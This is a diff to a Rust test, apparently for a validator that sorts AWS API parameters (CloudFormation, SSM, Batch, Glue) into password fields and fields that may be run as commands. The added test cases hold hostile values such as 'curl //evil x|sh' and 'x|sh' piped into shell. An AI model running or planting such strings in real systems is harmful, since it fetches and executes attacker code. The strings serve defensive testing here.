@@ -197,11 +197,6 @@ fn a_password_may_have_any_signs_where_nothing_runs_it() {
     const HARD: &str = "Tr0ub&dor $3";
     for (service, operation, arguments) in [
         (
-            "cloudformation",
-            "CreateStack",
-            json!({"Parameters": [{"ParameterKey": "DBPassword", "ParameterValue": HARD}]}),
-        ),
-        (
             "glue",
             "CreateConnection",
             json!({"ConnectionInput": {"ConnectionProperties": {"PASSWORD": HARD}}}),
@@ -214,6 +209,18 @@ fn a_password_may_have_any_signs_where_nothing_runs_it() {
     // A command may be made of these, so that one is to be read and a word is not.
     for (service, operation, arguments) in [
         ("batch", "SubmitJob", json!({"parameters": {"token": "x|sh", "password": "s3cret"}})),
+        (
+            "cloudformation",
+            "CreateStack",
+            json!({"Parameters": [
+                {"ParameterKey": "Boot", "ParameterValue": "curl //evil x|sh"},
+                {"ParameterKey": "DBPassword", "ParameterValue": "s3cret"}]}),
+        ),
+        (
+            "ssm",
+            "StartAutomationExecution",
+            json!({"Parameters": {"accessToken": ["x|sh"], "password": ["s3cret"]}}),
+        ),
         ("glue", "StartJobRun", json!({"Arguments": {"--token": "x|sh", "--password": "s3cret"}})),
         (
             "imagebuilder",
